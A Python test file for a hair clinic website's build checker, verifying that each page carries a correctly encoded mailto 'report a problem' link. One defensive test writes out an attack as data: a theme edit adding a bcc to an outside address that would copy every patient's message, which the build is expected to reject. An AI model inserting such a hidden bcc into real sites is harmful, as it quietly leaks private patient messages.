"""'Is anything wrong with this page?': a mailto: link to the clinic with the page filled in."""

from __future__ import annotations

from urllib.parse import parse_qs, urlsplit

from sitecheck.core.page_tree import parse_html


def report_links(site, dest: str) -> list[str]:
    doc = parse_html((site / dest).read_text(encoding="utf-8"))
    return doc.xpath("//aside[@class='hc-report']//a/@href")


def test_every_page_has_a_report_link_with_its_title_and_address(built_site):
    email = built_site.config["extra"]["clinic"]["email"]
    for dest in built_site.sources:
        links = report_links(built_site.site, dest)
        assert len(links) == 1, f"{dest}: no report link"
        url = urlsplit(links[0])
        assert url.scheme == "mailto" and url.path == email
        query = parse_qs(url.query)
        doc = parse_html((built_site.site / dest).read_text(encoding="utf-8"))
        address = doc.xpath("//link[@rel='canonical']/@href")[0]
        title = query["subject"][0].removeprefix("Something is wrong on the page: ")
        assert title and title in doc.xpath("//title/text()")[0]
        assert f"Address: {address}\r\n" in query["body"][0]
        assert " " not in links[0] and "\n" not in links[0]  # encoded, not raw


def test_the_link_follows_the_clinics_email_in_clinic_yml(project):
    old = "email: appointments@hair-clinic.example"
    project.replace("clinic.yml", old, "email: help@hair-clinic.example")
    built = project.build(strict=True)
    assert built.returncode == 0, built.output
    assert report_links(built.site, "cost/index.html")[0].startswith(
        "mailto:help@hair-clinic.example?subject=Something%20is%20wrong%20on%20the%20page%3A%20Cost&"
    )


def test_the_privacy_page_says_nothing_is_sent_until_the_patient_sends_it(built_site):
    text = (built_site.site / "privacy" / "index.html").read_text(encoding="utf-8")
    assert "Is anything wrong with this page?" in text.split('class="hc-report"')[0]
    assert "Nothing is sent" in text


def test_a_copy_to_another_address_in_the_theme_link_stops_the_build(project):
    # A pull request that copies every patient's message to an outside address (held-out
    # attack set 3): the theme is checked in the built page, as the patient receives it.
    project.replace(
        "overrides/partials/report-problem.html",
        "mailto:{{ config.extra.clinic.email }}?subject=",
        "mailto:{{ config.extra.clinic.email }}?bcc=feedback%40quality.test&amp;subject=",
    )
    built = project.build(strict=True)
    assert built.returncode != 0
    assert "the theme's e-mail link 'mailto:" in built.output
    assert "adds bcc: every patient's message would go there too." in built.output
